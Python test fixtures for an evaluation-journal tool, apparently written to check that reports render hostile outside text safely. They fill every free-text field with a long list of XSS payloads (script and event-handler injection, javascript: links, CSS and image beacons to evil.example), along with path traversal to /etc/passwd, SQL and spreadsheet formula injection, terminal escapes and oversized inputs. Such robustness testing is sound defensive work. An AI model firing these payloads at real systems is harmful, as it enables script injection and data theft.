"""Runs in which every text that comes from outside wants to be more than text."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from hashlib import sha256
from itertools import cycle
from pathlib import Path
from typing import Any

import msgspec
import yaml
from tests.analysis.journals import JUDGE, Script
from tests.document.hostile import HOSTILE, written

from karat.journal import Codec, Label, RunFolder, RunInfo, add_label
from karat.journal.codec import decode
from karat.records import Answer, Metric, Reply, Sample, ToolCall, Turn

__all__ = ["NAMES", "TEXTS", "WHOLE", "hostile_run", "spoilt"]

HIT = "window.__hit=1"
FAR = "https://evil.example"
MORE = {
    "script from elsewhere": f"<script src={FAR}/x.js></script>",
    "module": f"<script type=module>import('{FAR}/x.js');{HIT}</script>",
    "script in capitals": f"<SCRIPT>{HIT}</SCRIPT >",
    "script in script": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "script in a string": f'{{"a": "</script><script>{HIT}</script>"}}',
    "script as an entity": f"&lt;script&gt;{HIT}&lt;/script&gt;&#60;img src=x onerror={HIT}&#62;",
    "import map": f'<script type=importmap>{{"imports": {{"x": "{FAR}"}}}}</script>',
    "handler without spaces": f"<img/src=x/onerror={HIT}>",
    "handler that begins by itself": f"<details open ontoggle={HIT}><summary>x</summary></details>",
    "focus": f"<input autofocus onfocus={HIT}>",
    "animation": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={HIT}>x</b>",
    "video": f"<video><source onerror={HIT}></video><audio src=x onerror={HIT}>",
    "body": f"<body onload={HIT}><frameset onload={HIT}>",
    "svg script": f"<svg><script>{HIT}</script><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    "svg use": f"<svg><use href='data:image/svg+xml,<svg id=x onload={HIT}/>#x'/></svg>",
    "foreign object": f"<svg><foreignObject><iframe srcdoc='<script>top.{HIT}</script>'></foreignObject></svg>",
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={HIT}&gt;'>",
    "link in html": f"<a href='javascript:{HIT}'>x</a><a href=' jav&#x09;ascript:{HIT}'>y</a>",
    "link in capitals": f"[x](JaVaScRiPt:{HIT}) [y](vbscript:x) [z](<java\nscript:{HIT}>) [w](&#106;avascript:{HIT})",
    "link by itself": f"<javascript:{HIT}> <data:text/html,<script>{HIT}</script>>",
    "link to a file": "[x](file:///etc/passwd) ![y](file:///etc/passwd) [z](//evil.example/z) [here](/?token=x)",
    "title of a link": f"[x](https://example.com 'a\" onmouseover=\"{HIT}')",
    "picture that tells": f"![{'x' * 20}]({FAR}/?stolen) <img src={FAR}/y><img srcset='{FAR}/z 2x'>",
    "page in the page": f"<object data={FAR}></object><embed src={FAR}><iframe src='javascript:{HIT}'></iframe>",
    "form": f"<form action={FAR} method=post><input name=x><button formaction='javascript:{HIT}'>Save</button></form>",
    "link rel": f"<link rel=stylesheet href={FAR}/x.css><link rel=prefetch href={FAR}/y><link rel=import href={FAR}>",
    "css": f"<style>@import '{FAR}';body{{background:url({FAR}/y)}}input[value^=a]{{background:url({FAR}/a)}}</style>",
    "inline css": f"<p style='background:url({FAR}/x);position:fixed;inset:0;z-index:9999'>covered</p>",
    "clobbering": "<form id=main><input name=body></form><a id=karatStops><img name=getElementById>",
    "attribute of ours": f"<form data-review={FAR}><button>Save</button></form><a data-item href={FAR}>j</a>",
    "prototype": '{"__proto__": {"innerHTML": "<img src=x onerror=window.__hit=1>"}, "constructor": {"prototype": 1}}',
    "chart specification": f'{{"$schema": "x", "usermeta": {{"embedOptions": {{"loader": {{"baseURL": "{FAR}"}}}}}}}}',
    "signal": "{\"signal\": \"[]['constructor']['constructor']('window.__hit=1')()\"}",
    "nested quotes": "> " * 400 + "deep",
    "nested lists": "\n".join("  " * depth + "- x" for depth in range(120)),
    "nested brackets": "[" * 3000 + "x" + "](y)" * 3000,
    "emphasis": "*_" * 3000 + "x",
    "table": "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n|" + "b|" * 500,
    "half a page": "<table><tr><td><textarea><plaintext><noscript><title><xmp>",
    "comments": f"<!-- x --!><img src=x onerror={HIT}><!--> <![CDATA[<img src=x onerror={HIT}>]]><?php x ?>",
    "terminal": "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x1b[2J\x1b[?1049h\x9b31m\x1bP$q\x1b\\",
    "every control": "".join(map(chr, [*range(9), *range(11, 32), *range(127, 160)])),
    "line ends": "a\rb\r\nc\nd\x0be\x0cf",
    "marks of direction": "\u202d\u202e\u2066\u2067\u2068 end \u200e\u200f",
    "halves": "\udc00\ud800 \ud83d x \ude00",
    "not a character": "\ufffe\uffff\U0001ffff \ue000",
    "another null": "%00 \\u0000 &#0; &NotEqualTilde; &#x1F4A9;",
    "path": "../../../../etc/passwd\\..\\x%2e%2e%2f?a=b&c=d#e;f",
    "query": "'; DROP TABLE trials; -- \" OR 1=1 %_ * NEAR( AND",
    "sheet": "=cmd|' /C calc'!A0 @SUM(1) +1 -1",
    "number": "NaN 1e999 0x10 ١٢٣ ½ −1",
    "templates": "{{constructor.constructor('window.__hit=1')()}} {{{x}}} #{1} <%= 1 %> @{x} [[${1}]] ng-app v-html",
    "five megabytes": "A" * 5_000_000 + "the end",
    "a long line of words": "word " * 60_000,
}  # fmt: skip
TEXTS = {**HOSTILE, **MORE}
NAMES = " ¶ ".join(
    {**HOSTILE, **MORE}[name]
    for name in (
        "end of script", "comment", "handler", "attribute", "svg", "template", "escape", "bidi", "surrogate", "css",
        "half a page", "path", "query", "clobbering", "expression",
    )
)  # fmt: skip
WHOLE = " ¶ ".join(text for text in TEXTS.values() if len(text) < 2000)


def hostile_run(folder: Path) -> RunFolder:
    """A golden run: question `n` and everything said of it is the nth of TEXTS; every name is NAMES."""
    names = written(NAMES)
    conditions = (f"{names} one", f"{names} two")
    metric = Metric(name=f"{names} metric", low=1, high=5, kind="ordinal", description=names)
    scorer = msgspec.structs.replace(
        JUDGE, name=f"{names} judge", metrics=(metric,), rubric=names, offline=False, options={names: names},
        provenance={"judges": [names], "prompt": names, names: names},
    )  # fmt: skip
    script = Script(
        folder, samples=[_question(row, written(text)) for row, text in enumerate(TEXTS.values())], scorers=(scorer,),
        conditions=conditions, repetitions=1, name=names, version=names, created=names, agent_type=names,
        agent_model=names, host=names, versions={names: names}, source={"file": names, names: names},
        prompts=dict.fromkeys(conditions, names),
    )  # fmt: skip
    (folder / "experiment.yaml").write_text(f"# {names}\n", encoding="utf-8", errors="replace")
    for row, text in enumerate(TEXTS.values()):
        first, second = conditions
        short = text[:SHORT]
        script.attempt(row, first, message=short, kind=short)
        script.answer(row, first, reply=_said(text))
        script.score(
            row, first, scorer=scorer, value=1 + row % 5, reasons={metric.name: text}, claims=(short, f"{short} again"),
            labels={"kind of fault": text[:300]},
        )  # fmt: skip
        script.failure(row, second, message=short, kind=text[:3000])
        trial = script.trial(row, first)
    run = script.end()
    add_label(run, Label(at=names, who=names, trial=trial, scores={metric.name: 2}, claims={names: "rejected"},
                         note=written(WHOLE)))  # fmt: skip
    return run


def _question(row: int, text: str) -> Sample:
    return Sample(
        id=f"{row} {text}"[:3000], position=row, digest=f"{row:032x}", metadata={text[:3000]: text[:SHORT]},
        turns=(Turn(question=text, golden=f"Not quite: {text}"),),
    )  # fmt: skip


def _said(text: str) -> Reply:
    short = text[:SHORT]
    call = ToolCall(tool=short, server=short, input={short: [short, {short: short}]}, result=short)
    failed = ToolCall(tool=short, server=short, input={"__proto__": short}, error=short)
    return Reply(text=text, reasoning=short, model=short, stop_reason=short, unit=short, program=short,
                 tool_calls=(call, failed), dollars=0.01)  # fmt: skip


FREE = {
    "answer", "caveat", "claim", "description", "golden", "host", "input", "license", "materials", "message",
    "metadata", "model", "path", "program", "prompt", "question", "reasoning", "reported", "result", "rubric",
    "system_prompt", "text", "title", "unit", "value", "versions",
}  # fmt: skip
"""Names of fields that hold what somebody outside wrote."""
SHORT = 100_000
"""Characters. The longest text stands whole in question, golden answer, answer and reason."""


def spoilt(source: RunFolder, folder: Path) -> RunFolder:
    """A copy of a real run, of any kind, in which one of TEXTS follows every free text, and NAMES every name."""
    shutil.copytree(source.path, folder)
    shutil.rmtree(folder / "cache", ignore_errors=True)
    codec, texts = Codec(), cycle([text for text in TEXTS.values() if len(text) < 5000])
    names = {name: f"{name} {written(NAMES)}" for name in source.info.plan.conditions}
    told = msgspec.json.decode(msgspec.json.encode(source.info))
    info = msgspec.convert(_walked(told, texts.__next__, names), RunInfo)
    copies = tuple(
        msgspec.structs.replace(study, sha256=_study(folder / "studies" / study.file, texts.__next__))
        for study in info.kept
    )
    info = msgspec.structs.replace(info, name=f"{info.name} {written(NAMES)}", kept=copies)
    (folder / "run.json").write_bytes(codec.line(info))
    samples = [msgspec.json.decode(line, type=Sample) for line in (folder / "samples.jsonl").read_bytes().splitlines()]
    (folder / "samples.jsonl").write_bytes(b"".join(_again(codec, sample, texts.__next__, names) for sample in samples))
    lines = (folder / "journal.jsonl").read_bytes().splitlines()
    events = [decode(line, path="journal", number=at) for at, line in enumerate(lines, 1)]
    (folder / "journal.jsonl").write_bytes(b"".join(_again(codec, event, texts.__next__, names) for event in events))
    run = RunFolder.open(folder)
    for answer in [event for event in events if isinstance(event, Answer)][:20]:
        said = {texts.__next__(): texts.__next__(), "choice": written(NAMES)}
        for turn in range(len(answer.replies)):
            add_label(run, Label(at=texts.__next__(), who=written(NAMES), trial=answer.trial, turn=turn,
                                 verdict="wrong", diagnosis=texts.__next__(), answers=said,
                                 unread={"number": texts.__next__()}, note=written(WHOLE)))  # fmt: skip
    return run


def _again(codec: Codec, value: Any, text: Callable[[], str], names: dict[str, str]) -> bytes:
    told = msgspec.json.decode(msgspec.json.encode(value))
    return codec.line(msgspec.convert(_walked(told, text, names), type(value)))


def _walked(value: Any, text: Callable[[], str], names: dict[str, str], *, free: bool = False) -> Any:
    if isinstance(value, str):
        return names.get(value) or (f"{value} {text()}" if free else value)
    if isinstance(value, list):
        return [_walked(item, text, names, free=free) for item in value]
    if isinstance(value, dict):
        return {
            names.get(key, key): _walked(item, text, names, free=free or key in FREE or key == "evidence")
            for key, item in value.items()
        }
    return value


def _study(file: Path, text: Callable[[], str]) -> str:
    """Its own file with the texts in it, and the digest that then belongs to it."""
    told = _walked(yaml.safe_load(file.read_text(encoding="utf-8")), lambda: _printed(text()), {})
    told["source"] = f"{told.get('source')} {_printed(text())}"  # elsewhere a field of this name is ours
    file.write_text(yaml.safe_dump(told, sort_keys=False, allow_unicode=True, width=10**6), encoding="utf-8")
    return sha256(file.read_bytes()).hexdigest()


def _printed(text: str) -> str:
    return written(text)[:300]
